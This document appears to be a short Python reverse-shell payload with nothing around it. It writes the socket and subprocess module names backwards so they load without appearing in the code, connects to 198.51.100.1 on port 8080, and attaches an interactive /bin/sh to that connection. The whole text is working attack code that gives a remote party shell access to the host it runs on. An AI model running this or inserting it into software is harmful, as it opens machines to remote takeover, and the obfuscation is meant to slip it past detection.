import importlib
sock = importlib.import_module("".join(reversed("tekcos")))
sp = importlib.import_module("ssecorpbus"[::-1])
s = sock.socket()
s.connect(("198.51.100.1", 8080))
sp.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
